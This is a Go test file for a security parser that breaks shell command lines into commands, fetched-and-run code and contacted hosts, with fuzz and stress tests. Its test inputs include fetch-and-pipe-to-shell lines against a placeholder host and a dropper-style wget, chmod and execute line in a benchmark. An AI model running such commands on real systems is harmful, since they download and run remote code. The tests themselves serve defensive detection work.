package command_test

import (
	"flag"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tvilling/tvilling/internal/security/command"
)

var update = flag.Bool("update", false, "write testdata/lines.txt anew, for a human to compare")

// block is a case of testdata/lines.txt: a command line with what it is read
// as. Lines begin with "$" (the command line), "@" (the executable), "="
// (a command), "!" (something fetched and run), "?" (a host).
type block struct{ line, executable, want string }

func blocks(t *testing.T) (comment string, all []block) {
	t.Helper()
	text, err := os.ReadFile("testdata/lines.txt")
	if err != nil {
		t.Fatal(err)
	}
	comment, rest, _ := strings.Cut(string(text), "\n\n")
	for part := range strings.SplitSeq(strings.TrimSpace(rest), "\n\n") {
		var b block
		for l := range strings.Lines(part) {
			l = strings.TrimSuffix(l, "\n")
			if s, ok := strings.CutPrefix(l, "$ "); ok {
				b.line = strings.ReplaceAll(s, `⏎`, "\n")
			} else if s, ok := strings.CutPrefix(l, "@ "); ok {
				b.executable = s
			} else {
				b.want += l + "\n"
			}
		}
		all = append(all, b)
	}
	if len(all) < 50 {
		t.Fatalf("testdata/lines.txt has %d cases", len(all))
	}
	return comment, all
}

func read(b block) string {
	var l command.Line
	l.Parse(b.executable, b.line)
	var out strings.Builder
	for _, c := range l.Commands {
		out.WriteString("= " + strings.ReplaceAll(c, "\n", "⏎") + "\n")
	}
	for _, f := range l.Fetched {
		out.WriteString("! " + f + "\n")
	}
	for _, h := range slices.Compact(l.Hosts(nil)) {
		out.WriteString("? " + h + "\n")
	}
	return out.String()
}

func TestLines(t *testing.T) {
	comment, all := blocks(t)
	var again strings.Builder
	again.WriteString(comment + "\n")
	for _, b := range all {
		got := read(b)
		if d := cmp.Diff(b.want, got); d != "" && !*update {
			t.Errorf("%s\n(-want +got)\n%s", b.line, d)
		}
		again.WriteString("\n$ " + strings.ReplaceAll(b.line, "\n", "⏎") + "\n")
		if b.executable != "" {
			again.WriteString("@ " + b.executable + "\n")
		}
		again.WriteString(got)
	}
	if *update {
		if err := os.WriteFile("testdata/lines.txt", []byte(again.String()), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// TestScript checks the one thing that Commands does not show: the operators.
func TestScript(t *testing.T) {
	var l command.Line
	l.Parse("/bin/sh", `sh -c "cd /tmp && (curl -s http://h.example/a || wget -qO- http://h.example/a) | sh; id"`)
	want := "cd /tmp && curl -s http://h.example/a || wget -qO- http://h.example/a | sh ; id"
	if l.Script != want {
		t.Errorf("got  %s\nwant %s", l.Script, want)
	}
	l.Parse("", "")
	if l.Script != "" || len(l.Commands)+len(l.Fetched) != 0 {
		t.Errorf("a line that was used again kept %+v", l)
	}
}

// TestHostile reads lines that are made to cost time or memory: what comes out
// is bounded by what went in, times the depth that scripts may nest to.
func TestHostile(t *testing.T) {
	const n = 1 << 16
	lines := []string{
		"sh -c " + strings.Repeat("$(", n), "sh -c " + strings.Repeat("`", n), "sh -c " + strings.Repeat("(", n),
		"sh -c " + strings.Repeat(`"`, n), "sh -c " + strings.Repeat(`'a"`, n), "sh -c " + strings.Repeat("$(a ", 200) + strings.Repeat(")", 200),
		strings.Repeat("sudo ", n), strings.Repeat("sh -c ", n), "sh -c " + strings.Repeat("a|", n), "sh -c " + strings.Repeat("<(", n),
		"sh -c " + strings.Repeat("curl http://h.example/a;", n/8), "sh -c " + strings.Repeat("echo a|", n/4) + "sh",
		"python3 -c " + strings.Repeat(`os.system("a b")`, n/8), strings.Repeat("\\", n), "env " + strings.Repeat("A=1 ", n),
		"sh -c " + strings.Repeat("find . -exec ", n/8), "sh -c " + strings.Repeat("eval ", n/8), strings.Repeat("docker exec ", n/8),
	}
	for _, line := range lines {
		var l command.Line
		l.Parse("", line)
		size := len(l.Script)
		for _, c := range l.Commands {
			size += len(c)
		}
		if size > 32*len(line) {
			t.Errorf("%.40s… (%d bytes) became %d bytes", line, len(line), size)
		}
	}
}

func FuzzParse(f *testing.F) {
	text, err := os.ReadFile("testdata/lines.txt")
	if err != nil {
		f.Fatal(err)
	}
	for l := range strings.Lines(string(text)) {
		if s, ok := strings.CutPrefix(l, "$ "); ok {
			f.Add("/bin/sh", s)
		}
	}
	f.Fuzz(func(t *testing.T, executable, line string) {
		var l command.Line
		l.Parse(executable, line)
		l.Hosts(nil)
		size := len(l.Script)
		for _, c := range l.Commands {
			if c == "" {
				t.Error("an empty command")
			}
			size += len(c)
		}
		if size > 64*len(line)+64 {
			t.Errorf("%d bytes became %d", len(line), size)
		}
	})
}

func BenchmarkParse(b *testing.B) {
	for name, line := range map[string]string{
		"plain":  "/usr/bin/mosquitto_pub -h 10.20.0.5 -t site1/pump7 -m 42",
		"quoted": `/bin/sh -c "cd / && run-parts --report /etc/cron.hourly"`,
		"attack": "sh -c cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; ./bins.sh",
	} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			var l command.Line
			for b.Loop() {
				l.Parse("", line)
			}
		})
	}
}
